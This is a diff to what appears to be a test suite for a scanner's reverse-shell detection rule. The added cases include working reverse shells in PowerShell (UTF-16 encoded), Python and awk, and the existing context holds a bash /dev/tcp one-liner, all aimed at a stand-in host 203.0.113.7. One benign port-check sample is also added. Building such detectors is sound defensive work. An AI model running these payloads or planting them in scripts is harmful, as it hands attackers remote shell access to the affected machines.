@@ -1,4 +1,4 @@
-from _kit import fires, silent, sample
+from _kit import fires, silent, sample, utf16
 
 fires("shell_script_dev_tcp", "reverse_shell", "critical",
       sample("deploy.sh", "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"), "scripts/deploy.sh", "755")
@@ -21,3 +21,20 @@ silent("python_socket_server", "reverse_shell",
        sample("server.py", "import socket, pty, os\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('127.0.0.1', port))\n"
               "    s.listen()\n\ndef shell():\n    pid, fd = pty.fork()\n    return fd\n"),
        "tools/server.py")
+
+PS_SHELL = ("$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s = $c.GetStream();"
+            "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
+            "$o = (iex $d 2>&1 | Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}\r\n")
+fires("powershell_utf16_bom", "reverse_shell", "critical", sample("update.ps1", utf16(PS_SHELL), binary=True), "tools/update.ps1")
+silent("powershell_utf16_port_check", "reverse_shell",
+       sample("check-port.ps1", utf16("$c = New-Object System.Net.Sockets.TCPClient('db.internal', 5432)\r\n"
+                                      "if ($c.Connected) { Write-Host 'database reachable' }\r\n$c.Close()\r\n"), binary=True),
+       "tools/check-port.ps1")
+fires("python_utf16_no_bom", "reverse_shell", "critical",
+      sample("sync16.py", utf16("import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\n"
+                                "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\n", bom=False),
+             binary=True),
+      "tools/sync.py")
+fires("awk_inet_shell", "reverse_shell", "critical",
+      sample("awk.sh", "#!/bin/sh\nawk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) {printf \"> \" |& s; s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}'\n"),
+      "scripts/net.sh", "755")
